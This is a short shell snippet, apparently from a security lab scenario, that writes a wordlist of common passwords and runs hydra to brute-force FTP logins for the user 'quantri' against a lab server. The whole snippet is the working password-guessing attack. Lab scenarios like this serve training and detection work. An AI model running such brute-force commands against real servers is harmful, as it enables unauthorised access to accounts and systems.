# Passwords guessed over FTP.
# packages: hydra vsftpd
printf '%s\n' 123456 admin password root tinh2026 Abc@123 qwerty 111111 vietnam letmein matkhau admin123 >"$LAB_DIR/words"
LAB_SECONDS=20 from attacker hydra -I -t 4 -l quantri -P "$LAB_DIR/words" ftp://$SERVER
